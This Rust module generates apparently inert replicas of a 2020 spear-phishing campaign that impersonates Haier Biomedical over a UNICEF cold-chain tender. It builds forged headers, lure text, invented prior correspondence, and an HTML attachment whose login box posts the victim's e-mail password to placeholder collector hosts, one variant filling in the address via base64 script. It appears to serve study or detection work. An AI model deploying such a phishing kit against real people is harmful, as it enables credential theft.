//! The campaign's mail and its attachment, inert: nothing typed into the page goes anywhere.

use crate::compose::{self, Mail};
use crate::people::{Recipient, TitlePlace};
use data_encoding::BASE64;
use std::fmt::Write as _;

/// The attachment's name.
pub(crate) const ATTACHMENT: &str = "RFQ-UNICEF-CCEOP-and-Vaccine-Project.html";

const SENDER: &str = "haierbiomedical-trade.example";
const PERSONA: &str = "Liang Zhu";
const TITLE: &str = "Director of International Sales";

/// The states of the kit that were in use one after the other.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kit {
    /// The earlier set: another document behind the box, another collector.
    First,
    /// 7 and 8 September: the address stands in the field.
    Second,
    /// 9 September: a script fills the address in.
    Third,
}

impl Kit {
    const fn collector(self) -> &'static str {
        match self {
            Self::First => "https://mail-session.invalid/doc/check.php",
            Self::Second | Self::Third => "https://pdf-viewer-session.invalid/rfq/next.php",
        }
    }

    const fn subject(self) -> &'static str {
        match self {
            Self::First => "RFQ - Cold Chain Equipment Project",
            Self::Second | Self::Third => "RFQ - UNICEF CCEOP and Vaccine Project",
        }
    }
}

/// One mail of the campaign.
pub(crate) fn mail(recipient: &Recipient, number: usize, kit: Kit) -> Vec<u8> {
    let address = recipient.address();
    let (day, hour, minute) = (recipient.day, 1 + number % 8, (number * 17) % 60);
    let weekday = ["Mon", "Tue", "Wed"].get(usize::from(day).saturating_sub(7)).copied().unwrap_or("Tue");
    let (weekday, month) = match (kit, day) {
        (Kit::First, 1) => ("Tue", "Sep"),
        (Kit::First, _) => ("Wed", "Sep"),
        _ => (weekday, "Sep"),
    };
    let date = format!("{weekday}, {day} {month} 2020 {hour:02}:{minute:02}:{:02} +0000", (number * 7) % 60);
    let domain = recipient.domain;
    let host = 20 + number % 3;
    Mail::default()
        .field("Return-Path", &format!("<l.zhu@{SENDER}>"))
        .field(
            "Received",
            &format!(
                "from smtp{host}.{SENDER} (smtp{host}.{SENDER} [203.0.113.{host}])\r\n\tby mx.{domain} with ESMTPS id \
                 {number:06}\r\n\tfor <{address}>; {date}"
            ),
        )
        .field(
            "Authentication-Results",
            &format!("mx.{domain};\r\n\tspf=pass smtp.mailfrom={SENDER};\r\n\tdkim=none; dmarc=none header.from={SENDER}"),
        )
        .field("From", &compose::mailbox(&format!("{PERSONA} - Haier Biomedical"), &format!("l.zhu@{SENDER}")))
        .field("Reply-To", "<rfq.vaccine@coldchain-tender.test>")
        .field("To", &compose::mailbox(&display_name(recipient), &address))
        .field("Subject", kit.subject())
        .field("Date", &date)
        .field("Message-ID", &format!("<{:08x}.{number}@{SENDER}>", 0x5f55_0000 + number * 7919))
        .field("X-Mailer", "Foxmail 7.2")
        .parts(
            "mixed",
            &format!("----=_NextPart_{number:03}_0001_01D684"),
            &[
                compose::multipart(
                    "alternative",
                    &format!("----=_NextPart_{number:03}_0002_01D684"),
                    &[
                        compose::text_part("text/plain", &text(recipient, kit)),
                        compose::text_part("text/html", &html(recipient, kit)),
                    ],
                ),
                compose::file_part("text/html", ATTACHMENT, page(recipient, kit).as_bytes()),
            ],
        )
}

fn display_name(recipient: &Recipient) -> String {
    match (recipient.person, recipient.title, recipient.title_place) {
        (Some(person), Some(title), TitlePlace::Name) => format!("{person} ({title})"),
        (Some(person), _, _) => person.to_owned(),
        (None, _, _) => recipient.organisation.to_owned(),
    }
}

fn paragraphs(recipient: &Recipient, kit: Kit) -> Vec<String> {
    let greeting =
        recipient.person.map_or_else(|| "Dear Sir or Madam,".to_owned(), |person| format!("Dear {person},"));
    let programme = match kit {
        Kit::First => {
            "we prepare an offer for cold chain equipment under the Cold Chain Equipment Optimisation Platform and \
             look for partners who can take part in transport and installation."
        }
        Kit::Second | Kit::Third => {
            "Haier Biomedical takes part in the tender of UNICEF for the CCEOP and the coming vaccine project. We \
             need about 500 vaccine refrigerators of two kinds: solar direct drive (SDD) and ice-lined (ILR)."
        }
    };
    vec![
        greeting,
        programme.to_owned(),
        "Please review the attached request for quotation with the technical specification and the delivery \
         schedule, and let us have your best price, lead time and terms of payment before the end of the week."
            .to_owned(),
        "The document is protected. Open the attached file and sign in with your business e-mail to view it."
            .to_owned(),
        format!("Best regards,\n\n{PERSONA}\n{TITLE}\nHaier Biomedical\nTel. +86 555 0100"),
    ]
}

/// The invented earlier correspondence from which the recipient's title can be read.
fn quoted(recipient: &Recipient) -> Option<String> {
    let (person, title) = (recipient.person?, recipient.title?);
    (recipient.title_place == TitlePlace::Signature).then(|| {
        format!(
            "On Wed, 2 Sep 2020, {person} <{}> wrote:\n> Thank you for your message, we are interested in the \
             project.\n>\n> Kind regards\n> {person}\n> {title}\n> {}\n",
            recipient.address(),
            recipient.organisation
        )
    })
}

fn text(recipient: &Recipient, kit: Kit) -> String {
    let mut text = paragraphs(recipient, kit).join("\n\n") + "\n";
    if let Some(quoted) = quoted(recipient) {
        let _ = write!(text, "\n{quoted}");
    }
    text
}

fn html(recipient: &Recipient, kit: Kit) -> String {
    let mut html = String::from("<html><body style=\"font-family:Calibri,sans-serif;font-size:11pt\">\n");
    for paragraph in paragraphs(recipient, kit) {
        let _ = writeln!(html, "<p>{}</p>", paragraph.replace('\n', "<br>\n"));
    }
    if let Some(quoted) = quoted(recipient) {
        let escaped = quoted.replace('<', "&lt;").replace('>', "&gt;").replace('\n', "<br>\n");
        let _ = writeln!(html, "<blockquote>{escaped}</blockquote>");
    }
    html.push_str("</body></html>\n");
    html
}

/// The attachment: the picture of a document behind a login box with the victim's address filled in.
pub(crate) fn page(recipient: &Recipient, kit: Kit) -> String {
    let address = recipient.address();
    let (value, script) = match kit {
        Kit::First | Kit::Second => (address, String::new()),
        Kit::Third => {
            let encoded = BASE64.encode(address.as_bytes());
            let script =
                format!("<script>\ndocument.getElementById('user').value = atob('{encoded}');\n</script>\n");
            (String::new(), script)
        }
    };
    let rows = match kit {
        Kit::First => "<tr><td>Cold boxes</td><td>120</td></tr>",
        Kit::Second | Kit::Third => {
            "<tr><td>SDD refrigerator, 50 l</td><td>300</td></tr>\n<tr><td>ILR refrigerator, 140 l</td><td>200</td></tr>"
        }
    };
    let collector = kit.collector();
    format!(
        "<!DOCTYPE html>
<html>
<head>
<meta charset=\"utf-8\">
<title>{subject}</title>
<style>
.sheet {{ position: absolute; width: 100%; filter: blur(4px); }}
.box {{ position: relative; margin: 160px auto; width: 320px; padding: 24px; background: #fff; border: 1px solid #888; }}
</style>
</head>
<body>
<div class=\"sheet\">
<h2>Request for Quotation</h2>
<table border=\"1\">
<tr><th>Item</th><th>Quantity</th></tr>
{rows}
</table>
</div>
<div class=\"box\">
<h3>Protected PDF</h3>
<p>Sign in with your e-mail account to read this document.</p>
<form method=\"post\" action=\"{collector}\">
<input type=\"email\" name=\"user\" id=\"user\" value=\"{value}\" readonly>
<input type=\"password\" name=\"pass\" placeholder=\"E-mail password\" required>
<input type=\"submit\" value=\"View document\">
</form>
</div>
{script}</body>
</html>
",
        subject = kit.subject()
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::people;
    use std::collections::BTreeSet;

    #[test]
    fn every_page_differs_and_holds_its_own_victim_only() {
        let recipients = people::recipients();
        let pages: BTreeSet<String> =
            recipients.iter().map(|recipient| page(recipient, Kit::Second)).collect();
        assert_eq!(pages.len(), 50);
        let first = page(&recipients[0], Kit::Second);
        assert!(first.contains(&recipients[0].address()) && !first.contains(&recipients[1].address()));
    }

    #[test]
    fn nothing_leads_to_a_working_host() {
        for kit in [Kit::First, Kit::Second, Kit::Third] {
            assert!(kit.collector().contains(".invalid/"));
        }
        assert!(SENDER.ends_with(".example"));
    }
}
